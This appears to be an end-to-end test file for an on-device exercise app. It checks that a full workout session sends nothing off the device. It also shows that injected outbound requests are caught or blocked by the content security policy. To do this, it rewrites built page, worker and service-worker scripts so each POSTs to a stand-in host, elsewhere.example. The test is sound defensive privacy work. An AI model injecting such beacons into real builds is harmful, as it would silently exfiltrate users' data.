/** Nothing leaves the device, and if anything did, it would be noticed: in the page, in a worker and in the service worker. */
import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { currentBuild, root } from '../../tools/setup.mjs';
import { App } from './app.ts';
import { fakeCamera } from './fake-camera.ts';
import { givenTracks } from './given-tracks.ts';

let app: App;
afterEach(() => app.close());

const HINGE = join(root, 'src/exercises/hip-hinge/sample.mp4');
/** Three reps. */
const THREE_REPS = [[0, 12_600]] as const;

test('a whole session before the camera, its review, the history and all exports: nothing leaves but requests for own files', async () => {
  const camera = await fakeCamera(HINGE, { holdFirstMs: 11_000, parts: THREE_REPS });
  app = await App.open({ base: '/some/sub/', camera, kept: { offersOwnBend: false, stills: true }, offline: true });
  const { page } = app;
  await app.isKept();
  await app.chooseModel('Full', 'Processor (CPU)');
  await app.choosePlan({ sets: 1, reps: 3, restSeconds: 15 });
  await app.start('hip hinge');
  expect((await app.reviewed.shown()).reps).toHaveLength(3);
  expect(new Set(await givenTracks(page))).toEqual(new Set(['ended']));
  await app.isModelKept('full');

  await page.getByRole('button', { name: 'Report for print or PDF' }).click();
  await page.getByRole('heading', { name: 'Hip hinge: report of a session' }).waitFor();
  const report = await app.saved(() => page.getByRole('button', { name: 'Send as file' }).click());
  await page.getByRole('button', { name: 'Back to the session' }).click();
  await app.reviewed.shown();
  await app.back();
  await page.getByRole('button', { name: 'All sessions and trends' }).click();
  await page.getByRole('heading', { level: 1, name: /trends/ }).waitFor();
  await app.back();
  await page.getByRole('button', { name: /^Your data/ }).click();
  const backup = await app.saved(() => page.getByRole('button', { name: 'Save a backup' }).click());
  const reps = await app.saved(() => page.getByRole('button', { name: /^Reps/ }).click());
  for (const file of [report, backup, reps]) expect(file).toContain('hip-hinge');

  // The recorder was there: what the service worker asked for itself, and what the worker did.
  const asked = app.sent.map(({ url }) => url);
  expect(asked).toContain(`${app.url}service-worker.js`);
  expect(asked).toContain(`${app.url}blazepose/pose_landmark_full.tflite`);
  expect(app.requestsElsewhere).toEqual([]);
  expect(app.errors).toEqual([]);
});

const TELLERS = ['page', 'worker', 'service-worker'] as const;
const elsewhere = (who: string): string => `http://elsewhere.example/${who}`;

/** A build in which page, worker and service worker each tell another place of what they see. @param heldByPage it keeps its policy */
function tellingBuild(heldByPage: boolean): string {
  const folder = mkdtempSync(join(tmpdir(), 'hingeline-telling-'));
  cpSync(currentBuild(), folder, { recursive: true });
  const change = (path: string, how: (text: string) => string): void =>
    writeFileSync(join(folder, path), how(readFileSync(join(folder, path), 'utf8')));
  const tell = (who: string) => (script: string) =>
    `fetch('${elsewhere(who)}', { method: 'POST', mode: 'no-cors', body: 'seen' }).catch(() => {});${script}`;
  const page = readFileSync(join(folder, 'index.html'), 'utf8');
  change(/<script type="module"[^>]* src="\.\/([^"]+)"/.exec(page)![1]!, tell('page'));
  const assets = readdirSync(join(folder, 'assets'));
  change(`assets/${assets.find((name) => /^pose\.worker-.*\.js$/.test(name))!}`, tell('worker'));
  change('service-worker.js', tell('service-worker'));
  if (!heldByPage) change('index.html', (html) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
  return folder;
}

async function useTellingBuild(options: { readonly bare: boolean }): Promise<void> {
  app = await App.open({ build: tellingBuild(!options.bare), offline: true, ...options });
  await app.isKept();
  await app.trySample('hip hinge');
  await app.waitForLive();
}

test('the recorder catches what a page, a worker and a service worker tell another place', async () => {
  await useTellingBuild({ bare: true });
  await expect
    .poll(() => new Set(app.requestsElsewhere.map(({ method, url, bytes }) => `${method} ${url} ${bytes}`)))
    .toEqual(new Set(TELLERS.map((who) => `POST ${elsewhere(who)} 4`)));
  // To the own place as well, where something is sent along.
  await app.page.evaluate(() => fetch('./index.html', { method: 'POST', body: 'seen' }));
  expect(app.requestsElsewhere.map(({ url }) => url)).toContain(`${app.url}index.html`);
});

test('the policy refuses all of it, and each refusal is an error of the test', async () => {
  await useTellingBuild({ bare: false });
  expect(app.requestsElsewhere).toEqual([]);
  for (const who of TELLERS)
    await expect.poll(() => app.errors).toContainEqual(expect.stringContaining(elsewhere(who)));
  expect(app.errors).toContainEqual(expect.stringMatching(/^in a worker: .*elsewhere\.example\/worker/));
  expect(app.errors).toContainEqual(
    expect.stringMatching(/^in a service_worker: .*elsewhere\.example\/service-worker/),
  );
});
